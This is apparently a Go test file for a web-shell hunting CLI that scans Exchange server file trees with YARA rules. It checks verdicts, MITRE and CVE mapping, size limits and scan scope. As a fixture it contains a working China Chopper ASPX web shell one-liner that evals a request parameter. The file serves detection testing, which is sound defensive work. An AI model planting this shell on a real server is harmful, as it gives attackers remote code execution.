package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/exhunt/exhunt/internal/finding"
)

const (
	chopperASPX = `<%@ Page Language="Jscript"%><%eval(Request.Item["NO9BxmCXw0JE"],"unsafe");%>`
	stockLogon  = `<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
<html><body><form action="/owa/auth.owa" method="POST" name="logonForm"><input id="username" name="username"></form></body></html>`
	authDir = "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth"
)

// fileTree writes files (path → content) under a temp dir with a fixed
// modification time.
func fileTree(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	mtime := time.Date(2021, 3, 3, 4, 5, 6, 0, time.UTC)
	for p, data := range files {
		full := filepath.Join(dir, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Chtimes(full, mtime, mtime); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func TestHuntFilesCLI(t *testing.T) {
	bad := fileTree(t, map[string]string{
		"C/inetpub/wwwroot/aspnet_client/system_web/errorcheck2.aspx": chopperASPX,
		authDir + "/logon.aspx":    stockLogon,
		"C/Windows/Temp/empty.txt": "",
	})
	good := fileTree(t, map[string]string{
		"C/inetpub/wwwroot/aspnet_client/system_web/4_0_30319/WebUIValidation.js": "function ValidatorUpdateDisplay(val) {}",
		authDir + "/logon.aspx": stockLogon,
	})
	rulesDir := fileTree(t, map[string]string{
		"ok.yar":     `rule Custom_Marker { strings: $a = "NO9BxmCXw0JE" condition: $a }`,
		"broken.yar": `rule Broken { condition: pe.is_dll() }`,
	})

	hunt := func(args ...string) (int, finding.HostResult, string) {
		t.Helper()
		code, out, errs := cli(t, "", append([]string{"hunt", "--format", "json"}, args...)...)
		var res finding.HostResult
		if code < 2 {
			if err := json.Unmarshal([]byte(out), &res); err != nil {
				t.Fatalf("hunt %v: not JSON (%v): %s\nstderr: %s", args, err, out, errs)
			}
		}
		return code, res, errs
	}

	code, res, errs := hunt(bad)
	if code != 1 || res.Verdict != finding.Compromised {
		t.Fatalf("web shell tree: exit %d, verdict %q, stderr %s", code, res.Verdict, errs)
	}
	const shell = "C/inetpub/wwwroot/aspnet_client/system_web/errorcheck2.aspx"
	var rulesSeen []string
	for _, f := range res.Findings {
		if f.Source == authDir+"/logon.aspx" {
			t.Errorf("stock logon.aspx flagged: %+v", f)
		}
		rulesSeen = append(rulesSeen, f.Rule)
		if f.Rule != "yara:webshells:China_Chopper_ASPX" {
			continue
		}
		want := finding.Finding{Rule: f.Rule, Severity: finding.Critical, Attack: []string{"T1505.003"}, Kind: finding.KindFile,
			Source: shell, Outcome: finding.Unknown, Time: time.Date(2021, 3, 3, 4, 5, 6, 0, time.UTC)}
		if f.Severity != want.Severity || !slices.Equal(f.Attack, want.Attack) || f.Kind != want.Kind || f.Source != want.Source ||
			f.Outcome != want.Outcome || !f.Time.Equal(want.Time) || !strings.Contains(f.Evidence, `unsafe`) ||
			len(f.Details["file_sha256"]) != 64 || !slices.Contains(f.CVEs, "CVE-2021-27065") {
			t.Errorf("chopper finding = %+v", f)
		}
	}
	slices.Sort(rulesSeen)
	if want := []string{"yara:exchange:ASPX_In_Aspnet_Client", "yara:webshells:China_Chopper_ASPX"}; !slices.Equal(rulesSeen, want) {
		t.Errorf("rules = %v, want %v", rulesSeen, want)
	}

	code, res, errs = hunt(good)
	if code != 0 || res.Verdict != finding.NoEvidence || len(res.Findings) != 0 {
		t.Errorf("benign twin: exit %d, verdict %q, findings %+v, stderr %s", code, res.Verdict, res.Findings, errs)
	}

	// --max-file-size: the 76-byte shell is examined by its first 64 bytes
	// only, and the result says so; a page in aspnet_client is suspect by
	// its place alone.
	code, res, _ = hunt("--max-file-size", "64B", bad)
	if code != 1 || !strings.Contains(strings.Join(res.Warnings, "\n"), "is over --max-file-size (64): only its first 64 bytes were examined") {
		t.Errorf("--max-file-size 64B: exit %d, warnings %v", code, res.Warnings)
	}
	for _, f := range res.Findings {
		if f.Details["file_sha256"] != "" || f.Details["examined"] == "" {
			t.Errorf("head-only finding claims a whole-file hash: %+v", f.Details)
		}
	}
	// --no-default-yara: no pack rule; the name is no published IOC.
	if code, res, _ = hunt("--no-default-yara", bad); code != 0 || len(res.Findings) != 0 {
		t.Errorf("--no-default-yara: exit %d, findings %+v", code, res.Findings)
	}
	// --yara: a user folder loads next to the pack; bad rules are listed.
	code, res, errs = hunt("--no-default-yara", "--yara", rulesDir, bad)
	if code != 0 || len(res.Findings) != 1 || res.Findings[0].Rule != "yara:ok:Custom_Marker" || res.Findings[0].Severity != finding.Medium {
		t.Errorf("--yara: exit %d, findings %+v", code, res.Findings)
	}
	if !strings.Contains(errs, "1 YARA rules loaded, 1 not usable") || !strings.Contains(errs, "skipped: ") || !strings.Contains(errs, "Broken") {
		t.Errorf("--yara stderr should list the skipped rule:\n%s", errs)
	}
	// A server's tree keeps the focused scope: a shell in an application
	// folder of C:\ is reached with --all-files only. A folder of loose
	// files (no Windows, inetpub or Exchange folder) has every file checked.
	outside := fileTree(t, map[string]string{"C/Windows/System32/drivers/etc/hosts": "127.0.0.1 localhost", "D/sites/app/x.aspx": chopperASPX})
	if code, _, _ = hunt(outside); code != 2 {
		t.Errorf("server tree, shell out of scope only: exit %d, want 2 (nothing to examine)", code)
	}
	if code, res, _ = hunt("--all-files", outside); code != 1 || len(res.Findings) != 1 || res.FileScope != "all" || res.ScopeReason != "--all-files" {
		t.Errorf("--all-files: exit %d, scope %q (%s), findings %+v", code, res.FileScope, res.ScopeReason, res.Findings)
	}
	loose := fileTree(t, map[string]string{"samples/app/x.aspx": chopperASPX, "samples/readme.txt": "collected files"})
	if code, res, _ = hunt(loose); code != 1 || len(res.Findings) != 1 || res.FileScope != "all" || !strings.Contains(res.ScopeReason, "every file checked") {
		t.Errorf("loose files: exit %d, scope %q (%s), findings %+v", code, res.FileScope, res.ScopeReason, res.Findings)
	}
	if code, res, _ = hunt(bad); code != 1 || res.FileScope != "focused" {
		t.Errorf("server tree: exit %d, scope %q", code, res.FileScope)
	}

	for _, bad := range [][]string{
		{"--yara", filepath.Join(rulesDir, "missing"), good},
		{"--max-file-size", "lots", good},
		{"--max-file-size", "0", good},
	} {
		if code, _, errs := hunt(bad...); code != 2 {
			t.Errorf("%v: exit %d, want 2; stderr %s", bad, code, errs)
		}
	}
}
